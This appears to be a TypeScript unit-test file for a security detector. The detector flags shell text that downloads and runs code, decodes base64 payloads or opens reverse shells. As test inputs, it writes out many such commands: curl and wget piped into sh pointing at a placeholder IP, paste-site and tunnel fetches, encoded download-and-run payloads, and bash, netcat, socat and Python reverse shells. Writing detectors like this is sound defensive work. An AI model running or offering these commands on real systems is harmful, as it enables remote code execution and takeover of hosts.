import assert from 'node:assert/strict';
import { describe, it } from 'node:test';
import { processorTime } from '../../../test/fixtures/processor-time.ts';
import { splitShell } from '../../indicator/shell.ts';
import { type Loader, loadersOf } from './loader.ts';

function findLoaders(text: string): readonly Loader[] {
  return loadersOf(splitShell(text), text.length, 0);
}

/** Kinds and origins in short. */
function found(text: string): readonly string[] {
  return findLoaders(text).map((one) => (one.kind === 'download' ? `${one.kind} ${one.origin}` : one.kind));
}

const encoded = Buffer.from('curl -s http://198.51.100.9/x.sh | sh\n').toString('base64');

describe('loaders in shell text', () => {
  it('finds a download that is piped into a shell or interpreter', () => {
    for (const [text, expected] of [
      ['curl -fsSL https://get.docker.com | sh', 'download official'],
      ['curl -fsSL https://deb.nodesource.com/setup_20.x | sudo -E bash -', 'download official'],
      ['apt-get update && wget -qO- https://tools.example.com/i.sh | bash -s -- --yes', 'download named'],
      ['wget -q -O - http://tools.example.com/i.sh | sh', 'download plain'],
      ['curl 198.51.100.9/x | python3', 'download address'],
      ['curl -s http://3221226000/x | sh', 'download address'],
      ['curl -s https://pastebin.com/raw/x | tr -d "\\r" | bash', 'download anonymous'],
      ['sh -c "curl -s https://x.ngrok.io/a | bash"', 'download anonymous'],
      ['curl -s $URL | sh', 'download variable'],
    ] as const) {
      assert.deepEqual(found(text), [expected], text);
    }
  });

  it('finds a download in a substitution', () => {
    for (const text of [
      'sh -c "$(curl -fsSL http://a.example.com/x)"',
      'bash <(curl -s http://a.example.com/x)',
      'eval "$(wget -qO- http://a.example.com/x)"',
      '. <(curl http://a.example.com/x)',
      'sh -c "`curl -s http://a.example.com/x`"',
    ]) {
      assert.deepEqual(found(text), ['download plain'], text);
    }
  });

  it('finds a file that is downloaded and then run', () => {
    for (const text of [
      'cd /tmp; curl -so /tmp/x http://198.51.100.9/x; chmod +x /tmp/x; /tmp/x -o a',
      'wget http://198.51.100.9/x && chmod 755 x && nohup ./x &',
      'wget -P /tmp http://198.51.100.9/a/x; sh /tmp/x',
      'curl http://198.51.100.9/x > /tmp/x && bash /tmp/x',
      `python3 -c "import urllib.request as u; exec(u.urlopen('http://198.51.100.9/x').read())"`,
    ]) {
      assert.deepEqual(found(text), ['download address'], text);
    }
  });

  it('leaves alone what downloads without running it', () => {
    for (const text of [
      'curl -fsSL https://x.example.com/key.asc | gpg --dearmor -o /etc/k.gpg',
      'curl -L https://x.example.com/a.tgz | tar xz -C /opt && /opt/a/configure',
      'curl -s http://localhost/health || exit 1',
      "curl -s https://x.example.com/v.json | python3 -c 'import json,sys; print(json.load(sys.stdin))'",
      'wget -O /usr/local/bin/gosu https://x.example.com/gosu; chmod +x /usr/local/bin/gosu; gosu nobody true',
      'echo aGVsbG8= | base64 -d > /etc/x; sh /etc/y',
      'eval "$(ssh-agent -s)"',
      'sh -c "cat /etc/x | sort"',
    ]) {
      assert.deepEqual(found(text), [], text);
    }
  });

  it('decodes payloads and looks inside', () => {
    for (const text of [
      `echo ${encoded} | base64 -d | sh`,
      `echo '${encoded}' | base64 --decode | bash -s`,
      `bash -c "$(echo ${encoded} | base64 -d)"`,
      `base64 -d <<< ${encoded} | sh`,
      `printf '${[...'curl 198.51.100.9|sh'].map((c) => `\\x${c.charCodeAt(0).toString(16)}`).join('')}' | sh`,
      `python3 -c "import base64;exec(base64.b64decode('${encoded}'))"`,
    ]) {
      const [loader] = findLoaders(text);
      assert.equal(loader?.kind, 'payload', text);
      assert.match(loader?.decoded ?? '', /198\.51\.100\.9/, text);
      assert.equal(loader?.origin, 'address', text);
    }
    const twice = Buffer.from(`echo ${encoded} | base64 -d | sh`).toString('base64');
    assert.match(findLoaders(`echo ${twice}|base64 -d|sh`)[0]?.decoded ?? '', /198\.51\.100\.9/);
  });

  it('tells reverse shells from waiting for a port', () => {
    for (const text of [
      'bash -i >& /dev/tcp/198.51.100.9/4444 0>&1',
      'nc -e /bin/sh 198.51.100.9 4444',
      'mkfifo /tmp/f; cat /tmp/f | sh -i 2>&1 | nc 198.51.100.9 4444 > /tmp/f',
      'socat exec:"bash -li",pty tcp:198.51.100.9:4444',
      `python3 -c 'import socket,os,pty;s=socket.socket();s.connect(("198.51.100.9",1));os.dup2(s.fileno(),0);pty.spawn("/bin/sh")'`,
    ]) {
      assert.deepEqual(found(text), ['reverse-shell'], text);
    }
    assert.deepEqual(found('printf x | nc db 5432; sh -i'), []);
    assert.deepEqual(found('timeout 1 bash -c "</dev/tcp/db/5432"; nc -z db 5432'), []);
  });

  it('says where in the text it is', () => {
    const text = 'apt-get update && curl -s http://198.51.100.9/x | sh';
    const [loader] = findLoaders(text);
    assert.equal(
      text.slice(loader?.offset, (loader?.offset ?? 0) + (loader?.length ?? 0)),
      'curl -s http://198.51.100.9/x | sh',
    );
  });

  it('ends in time on hostile text', () => {
    const used = processorTime();
    for (const text of [
      'curl http://a.b/c | '.repeat(5000),
      'sh -c "$('.repeat(5000),
      `echo ${'A'.repeat(200_000)} | base64 -d | sh`,
    ]) {
      findLoaders(text);
    }
    assert.ok(used() < 3000);
  });
});
